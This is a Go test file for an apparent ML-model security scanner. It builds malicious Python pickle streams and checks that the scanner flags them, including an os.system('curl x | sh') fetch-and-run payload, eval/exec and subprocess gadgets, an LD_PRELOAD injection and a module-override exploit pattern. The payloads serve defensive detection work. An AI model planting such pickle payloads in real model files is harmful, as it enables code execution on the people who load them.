package pickle

import (
	"bytes"
	"context"
	"strings"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/mlguard/mlguard/internal/finding"
)

// TestScanGlobalOpcodes covers every way a stream names a global and what it
// then does with it: GLOBAL, INST, OBJ, STACK_GLOBAL (literal and memoised
// operands), NEWOBJ, NEWOBJ_EX, REDUCE, BUILD, SETITEM and EXT.
func TestScanGlobalOpcodes(t *testing.T) {
	t.Parallel()
	runScanCases(t, []scanCase{
		{"GLOBAL os.system + REDUCE", func() ([]byte, []got) {
			var r int64
			b := p().global("os", "system").string_("curl x | sh").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "os.system('curl x | sh')")}
		}},
		{"GLOBAL posix.system + REDUCE, protocol 2", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).global("posix", "system").binUnicode("id").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "posix.system('id')")}
		}},
		{"GLOBAL nt.system + REDUCE", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).global("nt", "system").binUnicode("dir").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "nt.system('dir')")}
		}},
		{"GLOBAL referenced, never called", func() ([]byte, []got) {
			b := p().global("os", "system").pop().none().stop()
			return b.bytes(), []got{critGlobal(0, "os.system")}
		}},
		{"INST", func() ([]byte, []got) {
			var r int64
			b := p().mark().string_("id").here(&r).inst("os", "system").stop()
			return b.bytes(), []got{critGlobal(r, "os.system('id')")}
		}},
		{"INST of an unknown class", func() ([]byte, []got) {
			var r int64
			b := p().mark().int_(1).here(&r).inst("mymodel", "Net").stop()
			return b.bytes(), []got{unknownCallable(r, "mymodel.Net(1)")}
		}},
		{"OBJ", func() ([]byte, []got) {
			var r int64
			b := p().mark().global("os", "system").string_("id").here(&r).obj().stop()
			return b.bytes(), []got{critGlobal(r, "os.system('id')")}
		}},
		{"STACK_GLOBAL with literal operands, framed protocol 4", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).frame(28).str("os").memoize().str("system").memoize().stackGlobal().memoize().
				str("id").memoize().tuple1().memoize().here(&r).reduce().memoize().stop()
			return b.bytes(), []got{critGlobal(r, "os.system('id')")}
		}},
		{"STACK_GLOBAL operands from BINGET/LONG_BINGET after decoy PUTs", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).
				str("builtins").binPut(0).pop().str("len").binPut(1).pop(). // decoys
				str("os").binPut(0).pop().                                  // overwrites the decoy
				str("system").longBinPut(70000).pop().
				binGet(0).longBinGet(70000).stackGlobal().str("id").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "os.system('id')")}
		}},
		{"STACK_GLOBAL operands from PUT/GET text opcodes", func() ([]byte, []got) {
			var r int64
			b := p().unicodeLine("subprocess").put(3).pop().unicodeLine("getoutput").put(4).pop().
				get(3).get(4).stackGlobal().unicodeLine("id").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "subprocess.getoutput('id')")}
		}},
		{"MEMOIZE counts entries, not the highest index (CPython memo_len)", func() ([]byte, []got) {
			// memo {0: 'builtins', 2: 'set'} has 2 entries: MEMOIZE stores
			// 'eval' at index 2, so BINGET 2 is 'eval', not 'set'.
			var r int64
			b := p().proto(4).str("builtins").binPut(0).str("set").binPut(2).pop().pop().
				str("eval").memoize().pop().
				binGet(0).binGet(2).stackGlobal().str("print(1)").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "builtins.eval('print(1)')")}
		}},
		{"MEMOIZE after a sparse PUT", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).str("x").longBinPut(5000).pop().str("builtins").memoize().pop().
				binGet(1).str("exec").stackGlobal().str("1").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "builtins.exec('1')")}
		}},
		{"sparse memo entry below the end of the dense memo", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).str("os").longBinPut(1500).pop().str("a").longBinPut(1000).pop().
				str("b").longBinPut(2000).pop(). // the dense memo now covers 1500
				longBinGet(1500).str("system").stackGlobal().str("id").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "os.system('id')")}
		}},
		{"dotted name tempfile._os.system", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).stackGlobalOf("tempfile", "_os.system").str("id").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "tempfile._os.system('id')")}
		}},
		{"dotted name bdb.Bdb.run", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).stackGlobalOf("bdb", "Bdb.run").str("import os").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "bdb.Bdb.run('import os')")}
		}},
		{"__builtin__.eval is builtins.eval", func() ([]byte, []got) {
			var r int64
			b := p().global("__builtin__", "eval").string_("1+1").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "__builtin__.eval('1+1')")}
		}},
		{"builtins.getattr chain", func() ([]byte, []got) {
			var r1, r2 int64
			b := p().proto(4).stackGlobalOf("builtins", "getattr").
				stackGlobalOf("builtins", "__import__").str("os").tuple1().here(&r1).reduce().str("system").tuple2().here(&r2).reduce().
				str("id").tuple1().reduce().stop()
			return b.bytes(), []got{
				critGlobal(r1, "builtins.__import__('os')"),
				critGlobal(r2, "builtins.getattr(builtins.__import__('os'), 'system')"),
			}
		}},
		{"NEWOBJ of an unknown class without arguments", func() ([]byte, []got) {
			b := p().proto(2).global("foo", "Bar").emptyTuple().newObj().stop()
			return b.bytes(), []got{unknownGlobal(2, "foo.Bar")}
		}},
		{"NEWOBJ of an unknown class with arguments", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).global("foo", "Bar").binInt1(1).tuple1().here(&r).newObj().stop()
			return b.bytes(), []got{unknownCallable(r, "foo.Bar(1)")}
		}},
		{"NEWOBJ of subprocess.Popen", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).global("subprocess", "Popen").mark().str("id").list().tuple1().here(&r).newObj().stop()
			return b.bytes(), []got{critGlobal(r, "subprocess.Popen(['id'])")}
		}},
		{"NEWOBJ_EX without arguments", func() ([]byte, []got) {
			var g int64
			b := p().proto(4).str("foo").str("Bar").here(&g).stackGlobal().emptyTuple().emptyDict().newObjEx().stop()
			return b.bytes(), []got{unknownGlobal(g, "foo.Bar")}
		}},
		{"NEWOBJ_EX with arguments and keywords", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).stackGlobalOf("foo", "Bar").binInt1(1).tuple1().emptyDict().str("k").binInt1(2).setItem().here(&r).newObjEx().stop()
			return b.bytes(), []got{unknownCallable(r, "foo.Bar(1, {'k': 2})")}
		}},
		{"NEWOBJ_EX with keywords only", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).stackGlobalOf("foo", "Bar").emptyTuple().emptyDict().str("k").binInt1(2).setItem().here(&r).newObjEx().stop()
			return b.bytes(), []got{unknownCallable(r, "foo.Bar({'k': 2})")}
		}},
		{"REDUCE of a call result: functools.partial(os.system)", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).global("functools", "partial").global("os", "system").tuple1().reduce().
				binUnicode("id").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "functools.partial(os.system)('id')")}
		}},
		{"REDUCE of a factory's result", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).global("foo", "factory").emptyTuple().here(&r).reduce().binUnicode("x").tuple1().reduce().stop()
			return b.bytes(), []got{unknownCallable(r, "foo.factory()")}
		}},
		{"REDUCE of a memo-fetched callable", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).global("os", "system").binPut(0).pop().
				emptyList().binPut(1).pop(). // unrelated memo traffic
				binGet(0).binUnicode("id").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{critGlobal(r, "os.system('id')")}
		}},
		{"BUILD on a global", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).global("collections", "OrderedDict").emptyDict().binUnicode("k").binUnicode("v").setItem().here(&r).build().stop()
			return b.bytes(), []got{mutation(r, "collections.OrderedDict.__setstate__({'k': 'v'})")}
		}},
		{"BUILD override: torch._utils._rebuild_tensor set to 'builtins', then looked up", func() ([]byte, []got) {
			// The shape of picklescan's sys_module_override_sploit.pkl.
			var g, b1, b2, r int64
			b := p().proto(4).unicodeLine("torch._utils").memoize().unicodeLine("_rebuild_tensor").memoize().stackGlobal().memoize().pop().
				unicodeLine("torch").unicodeLine("_utils").here(&g).stackGlobal().memoize().pop().
				binGet(3).emptyDict().binGet(1).unicodeLine("builtins").setItem().here(&b1).build().pop().
				binGet(0).binGet(1).stackGlobal(). // 'builtins'
				binGet(3).emptyDict().binGet(1).unicodeLine("eval").setItem().here(&b2).build().pop().
				binGet(0).binGet(1).stackGlobal(). // 'eval'
				stackGlobal().                     // builtins.eval
				unicodeLine("print(1)").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{
				unknownGlobal(g, "torch._utils"),
				mutation(b1, "torch._utils.__setstate__({'_rebuild_tensor': 'builtins'})"),
				mutation(b2, "torch._utils.__setstate__({'_rebuild_tensor': 'eval'})"),
				critGlobal(r, "builtins.eval('print(1)')"),
			}
		}},
		{"override that outlives its pickle", func() ([]byte, []got) {
			// The override set by the first pickle is memoised by the second.
			var g, b1, r int64
			first := p().proto(4).str("torch").str("_utils").here(&g).stackGlobal().emptyDict().str("_rebuild_tensor").str("builtins").setItem().here(&b1).build().stop()
			second := p().proto(4).str("torch._utils").str("_rebuild_tensor").stackGlobal().memoize().pop().
				binGet(0).str("eval").stackGlobal().str("1").tuple1()
			n := int64(len(first.b))
			second.here(&r).reduce().stop()
			return first.then(second).bytes(), []got{
				unknownGlobal(g, "torch._utils"),
				mutation(b1, "torch._utils.__setstate__({'_rebuild_tensor': 'builtins'})"),
				critGlobal(n+r, "builtins.eval('1')"),
			}
		}},
		{"SETITEM on a global", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).global("os", "environ").binUnicode("LD_PRELOAD").binUnicode("/tmp/x.so").here(&r).setItem().stop()
			return b.bytes(), []got{
				critGlobal(2, "os.environ"),
				mutation(r, "os.environ.__setitem__(('LD_PRELOAD', '/tmp/x.so'))"),
			}
		}},
		{"SETITEMS and APPENDS on a global", func() ([]byte, []got) {
			var r1, r2 int64
			b := p().proto(2).global("collections", "OrderedDict").mark().binUnicode("a").binInt1(1).here(&r1).setItems().
				mark().binInt1(2).here(&r2).appends().stop()
			return b.bytes(), []got{
				mutation(r1, "collections.OrderedDict.update(('a', 1))"),
				mutation(r2, "collections.OrderedDict.extend((2,))"),
			}
		}},
		{"EXT1 referenced", func() ([]byte, []got) {
			b := p().proto(2).ext1(1).stop()
			return b.bytes(), []got{unknownGlobal(2, "copyreg.<extension code 1>")}
		}},
		{"EXT2 called", func() ([]byte, []got) {
			var r int64
			b := p().proto(2).ext2(0x1234).emptyTuple().here(&r).reduce().stop()
			return b.bytes(), []got{unknownCallable(r, "copyreg.<extension code 4660>()")}
		}},
		{"EXT4 referenced twice is one global", func() ([]byte, []got) {
			b := p().proto(2).ext4(0x12345678).ext4(0x12345678).tuple2().stop()
			return b.bytes(), []got{unknownGlobal(2, "copyreg.<extension code 305419896>")}
		}},
		{"EXT1 code 0", func() ([]byte, []got) {
			return p().proto(2).ext1(0).stop().bytes(), []got{incomplete(2, "offset 2 (EXT1): EXT specifies code <= 0")}
		}},
		{"EXT4 negative code", func() ([]byte, []got) {
			return p().proto(2).ext4(0x80000000).stop().bytes(), []got{incomplete(2, "offset 2 (EXT4): EXT specifies code <= 0")}
		}},
		{"PERSID is ordinary", func() ([]byte, []got) {
			return p().persID("0").stop().bytes(), nil
		}},
		{"BINPERSID of a torch storage tuple is ordinary", func() ([]byte, []got) {
			b := p().proto(2).mark().binUnicode("storage").global("torch", "FloatStorage").binUnicode("0").binUnicode("cpu").binInt1(4).tuple().binPersID().stop()
			return b.bytes(), nil
		}},
		{"STACK_GLOBAL of None and a string", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).none().str("system").here(&r).stackGlobal().stop()
			return b.bytes(), []got{dynamic(r, "STACK_GLOBAL(None, 'system')")}
		}},
		{"STACK_GLOBAL of bytes", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).shortBinBytes("os").str("system").here(&r).stackGlobal().str("id").tuple1().reduce().stop()
			return b.bytes(), []got{dynamic(r, "STACK_GLOBAL(b'os', 'system')")}
		}},
		{"STACK_GLOBAL of integers", func() ([]byte, []got) {
			var r int64
			b := p().proto(4).binInt1(1).binInt1(2).here(&r).stackGlobal().stop()
			return b.bytes(), []got{dynamic(r, "STACK_GLOBAL(1, 2)")}
		}},
		{"STACK_GLOBAL of a call result", func() ([]byte, []got) {
			var r1, r2 int64
			b := p().proto(4).stackGlobalOf("foo", "modname").emptyTuple().here(&r1).reduce().str("system").here(&r2).stackGlobal().
				str("id").tuple1().reduce().stop()
			return b.bytes(), []got{
				unknownCallable(r1, "foo.modname()"),
				dynamic(r2, "STACK_GLOBAL(foo.modname(), 'system')"),
			}
		}},
		{"copyreg._reconstructor instantiates an unknown class", func() ([]byte, []got) {
			var c int64
			b := p().global("copy_reg", "_reconstructor").mark().here(&c).global("foo", "Bar").global("__builtin__", "object").none().tuple().reduce().stop()
			return b.bytes(), []got{unknownGlobal(c, "foo.Bar")}
		}},
		{"copyreg._reconstructor with an unknown base calls the base", func() ([]byte, []got) {
			var c, r int64
			b := p().global("copy_reg", "_reconstructor").mark().here(&c).global("foo", "Bar").global("foo", "Base").none().tuple().here(&r).reduce().stop()
			return b.bytes(), []got{
				unknownGlobal(c, "foo.Bar"),
				unknownCallable(r, "copy_reg._reconstructor(foo.Bar, foo.Base, None)"),
			}
		}},
		{"copyreg.__newobj__ instantiates an unknown class", func() ([]byte, []got) {
			var c int64
			b := p().proto(4).stackGlobalOf("copyreg", "__newobj__").str("foo").str("Bar").here(&c).stackGlobal().tuple1().reduce().stop()
			return b.bytes(), []got{unknownGlobal(c, "foo.Bar")}
		}},
		{"REDUCE of an unknown function", func() ([]byte, []got) {
			var r int64
			b := p().global("foo", "bar").string_("x").tuple1().here(&r).reduce().stop()
			return b.bytes(), []got{unknownCallable(r, "foo.bar('x')")}
		}},
	})
}

// TestScanSafeGlobals: the classes and rebuild functions of ordinary models
// produce no finding at all.
func TestScanSafeGlobals(t *testing.T) {
	t.Parallel()
	runScanCases(t, []scanCase{
		{"sklearn estimator by NEWOBJ + BUILD", func() ([]byte, []got) {
			b := p().proto(4).stackGlobalOf("sklearn.linear_model._logistic", "LogisticRegression").emptyTuple().newObj().
				emptyDict().str("C").binFloat(1).setItem().build().stop()
			return b.bytes(), nil
		}},
		{"sklearn class by copy_reg._reconstructor", func() ([]byte, []got) {
			b := p().global("copy_reg", "_reconstructor").mark().global("sklearn.tree._tree", "Tree").global("__builtin__", "object").none().tuple().reduce().stop()
			return b.bytes(), nil
		}},
		{"torch tensor rebuild", func() ([]byte, []got) {
			b := p().proto(2).global("torch._utils", "_rebuild_tensor_v2").
				mark().mark().binUnicode("storage").global("torch", "FloatStorage").binUnicode("0").binUnicode("cpu").binInt1(6).tuple().binPersID().
				binInt1(0).binInt1(2).binInt1(3).tuple2().binInt1(3).binInt1(1).tuple2().newFalse().
				global("collections", "OrderedDict").emptyTuple().reduce().tuple().reduce().stop()
			return b.bytes(), nil
		}},
		{"torch module by NEWOBJ + BUILD", func() ([]byte, []got) {
			b := p().proto(2).global("torch.nn.modules.linear", "Linear").emptyTuple().newObj().
				emptyDict().binUnicode("training").newTrue().setItem().build().stop()
			return b.bytes(), nil
		}},
		{"numpy array reconstruct", func() ([]byte, []got) {
			b := p().proto(2).global("numpy.core.multiarray", "_reconstruct").global("numpy", "ndarray").binInt1(0).tuple1().shortBinBytes("b").tuple3().reduce().
				mark().binInt1(1).binInt1(3).tuple1().
				global("numpy", "dtype").binUnicode("f8").newFalse().newTrue().tuple3().reduce().
				mark().binInt1(3).binUnicode("<").none().none().none().binInt(-1).binInt(-1).binInt1(0).tuple().build().
				newFalse().shortBinBytes(strings.Repeat("\x00", 24)).tuple().build().stop()
			return b.bytes(), nil
		}},
		{"protocol 0-2 bytes and builtins aliases", func() ([]byte, []got) {
			b := p().proto(2).mark().
				global("_codecs", "encode").binUnicode("\u00ff\u0000").binUnicode("latin1").tuple2().reduce().
				global("__builtin__", "set").mark().binInt1(1).list().tuple1().reduce().
				global("__builtin__", "xrange").binInt1(3).tuple1().reduce().
				global("__builtin__", "bytes").emptyTuple().reduce().
				list().stop()
			return b.bytes(), nil
		}},
		{"collections and datetime", func() ([]byte, []got) {
			b := p().proto(4).stackGlobalOf("collections", "OrderedDict").emptyTuple().reduce().
				stackGlobalOf("datetime", "timedelta").binInt1(1).tuple1().reduce().tuple2().stop()
			return b.bytes(), nil
		}},
	})
}

func TestScanAllow(t *testing.T) {
	t.Parallel()
	b := p().proto(4).stackGlobalOf("mymodel.net", "Net").emptyTuple().reduce().
		stackGlobalOf("os", "system").str("id").tuple1().reduce().tuple2().stop().bytes()
	for _, allow := range [][]string{{"mymodel.net.Net"}, {"mymodel.*"}} {
		res := Scan(context.Background(), bytes.NewReader(b), Options{Allow: allow})
		// The policy may trust a custom class; it cannot trust os.system.
		if diff := gocmp.Diff([]string{finding.PickleDangerousGlobal}, rules(res.Findings)); diff != "" {
			t.Errorf("Allow %v: rules (-want +got):\n%s", allow, diff)
		}
	}
	res := Scan(context.Background(), bytes.NewReader(b), Options{Allow: []string{"mymodel.other"}})
	if diff := gocmp.Diff([]string{finding.PickleUnknownCallable, finding.PickleDangerousGlobal}, rules(res.Findings)); diff != "" {
		t.Errorf("unrelated Allow: rules (-want +got):\n%s", diff)
	}
}

// TestScanDeny: a global the policy denies is dangerous even when it would
// be unknown or on the safe lists, and even when also allowed.
func TestScanDeny(t *testing.T) {
	t.Parallel()
	b := p().proto(4).stackGlobalOf("mymodel.net", "Net").emptyTuple().reduce().
		stackGlobalOf("collections", "OrderedDict").emptyTuple().reduce().tuple2().stop().bytes()
	for _, tc := range []struct {
		opt  Options
		want []string
	}{
		{Options{}, []string{finding.PickleUnknownCallable}},
		{Options{Deny: []string{"mymodel.*"}}, []string{finding.PickleDangerousGlobal}},
		{Options{Deny: []string{"mymodel.net.Net"}, Allow: []string{"mymodel.*"}}, []string{finding.PickleDangerousGlobal}},
		{Options{Deny: []string{"collections.OrderedDict"}}, []string{finding.PickleUnknownCallable, finding.PickleDangerousGlobal}},
	} {
		res := Scan(context.Background(), bytes.NewReader(b), tc.opt)
		if diff := gocmp.Diff(tc.want, rules(res.Findings)); diff != "" {
			t.Errorf("%+v: rules (-want +got):\n%s", tc.opt, diff)
		}
		for _, f := range res.Findings {
			if f.Rule == finding.PickleDangerousGlobal && !strings.Contains(f.Message+f.Evidence, "denied by the policy") {
				t.Errorf("the finding does not say the policy denied it: %+v", f)
			}
		}
	}
}

// TestScanMessages checks the wording of findings about resolved names.
func TestScanMessages(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		b    []byte
		want []string
	}{
		{"alias resolved", p().global("__builtin__", "eval").string_("1").tuple1().reduce().stop().bytes(),
			[]string{"pickle calls __builtin__.eval (builtins.eval): code execution builtins"}},
		{"attribute chain resolved", p().proto(4).stackGlobalOf("tempfile", "_os.system").stop().bytes(),
			[]string{"pickle imports tempfile._os.system (os.system): operating-system access"}},
		{"unknown instantiated", p().proto(2).global("foo", "Bar").emptyTuple().newObj().stop().bytes(),
			[]string{"pickle instantiates foo.Bar, which is not on the list of known-safe classes"}},
		{"extension code", p().proto(2).ext1(7).stop().bytes(),
			[]string{"pickle imports copyreg.<extension code 7>, which is not on the list of known-safe globals (resolved at load time from copyreg's extension registry)"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var msgs []string
			for _, f := range scanBytes(tc.b).Findings {
				msgs = append(msgs, f.Message)
			}
			if diff := gocmp.Diff(tc.want, msgs); diff != "" {
				t.Errorf("messages (-want +got):\n%s", diff)
			}
		})
	}
}

func TestScanGlobalsList(t *testing.T) {
	t.Parallel()
	b := p().proto(4).stackGlobalOf("os", "system").pop().stackGlobalOf("collections", "OrderedDict").pop().
		stackGlobalOf("os", "system").pop().none().stop().bytes()
	res := scanBytes(b)
	if diff := gocmp.Diff([]string{"collections.OrderedDict", "os.system"}, res.Globals); diff != "" {
		t.Errorf("Globals (-want +got):\n%s", diff)
	}
	if res.Pickles != 1 || res.End != int64(len(b)) || res.Err != nil {
		t.Errorf("Pickles=%d End=%d Err=%v, want 1, %d, nil", res.Pickles, res.End, res.Err, len(b))
	}
}
